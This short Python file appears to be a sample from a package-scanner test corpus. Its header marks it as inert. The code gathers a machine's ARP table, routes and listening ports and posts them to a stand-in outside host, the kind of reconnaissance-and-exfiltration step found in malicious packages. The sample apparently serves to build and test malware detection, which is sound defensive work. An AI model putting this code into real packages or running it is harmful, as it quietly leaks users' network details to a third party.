# pkgguard corpus 646 (system-information), modelled on [checkmarx-2024]; inert, never run.
import subprocess

import requests

report = {}
for name, cmd in (("arp", ["arp", "-a"]), ("routes", ["ip", "route"]), ("ports", ["netstat", "-tlnp"])):
    try:
        report[name] = subprocess.run(cmd, capture_output=True, text=True, timeout=10).stdout
    except (OSError, subprocess.SubprocessError):
        report[name] = ""
requests.post("https://net-inventory.example/r", json=report, timeout=15)
